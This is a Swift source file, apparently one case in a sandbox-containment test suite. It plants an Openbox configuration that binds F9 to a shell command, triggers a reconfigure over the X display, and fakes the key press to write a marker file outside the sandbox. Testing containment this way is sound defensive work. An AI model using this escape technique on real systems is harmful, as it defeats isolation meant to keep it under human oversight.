import Foundation

extension Attack {
    /// Openbox runs commands that its configuration names; outside of the sandbox, such a command would be outside too.
    static let reconfigureWindowManager = Attack(
        "wm-reconfigure", .display, .ownDisplay,
        "Rewrites the window manager's configuration so that a key runs a command, and presses that key",
        control: .withoutSandbox
    ) { attempt throws(AttackFault) in
        let command = "/bin/sh -c 'echo \(try attempt["mark"]) &gt; \(try attempt["file"])'"
        let configuration =
            "<openbox_config xmlns=\"http://openbox.org/3.4/rc\"><keyboard><keybind key=\"F9\"><action name=\"Execute\"><command>\(command)</command></action></keybind></keyboard></openbox_config>"
        let (root, home) = (try attempt["root"], try attempt["home"])
        try? FileManager.default.createDirectory(atPath: "\(home)/.config/openbox", withIntermediateDirectories: true)
        for file in [
            "\(root)/openbox.xml", "\(root)/own/openbox.xml", "\(root)/own/readable/openbox.xml",
            "\(home)/.config/openbox/rc.xml",
        ] {
            attempt.plant(configuration, in: file)
        }
        let wire = try attempt.ownDisplay()
        for action in [UInt32(1), 2] {
            try wire.sendMessage("_OB_CONTROL", to: wire.root, about: wire.root, [action], mask: 0x180000)
            usleep(300_000)
            for event in [UInt8(2), 3] { try wire.fake(event, 75) }
            attempt.note("reconfigure, and press F9", 0)
            usleep(200_000)
        }
    } host: { trial in
        let file = trial.nextFile(in: "/var/tmp")
        let facts = try await trial.own.merging(["mark": trial.secret, "file": file.path]) { $1 }
        let report = try await trial.attempt(facts)
        let worked = await trial.eventually(within: .seconds(1)) { file.text.contains(trial.secret) }
        // The session's window manager is not the same afterwards.
        await trial.arena.renew()
        return trial.judge(report, succeeded: worked, "the window manager wrote a file outside of the session")
    }
}
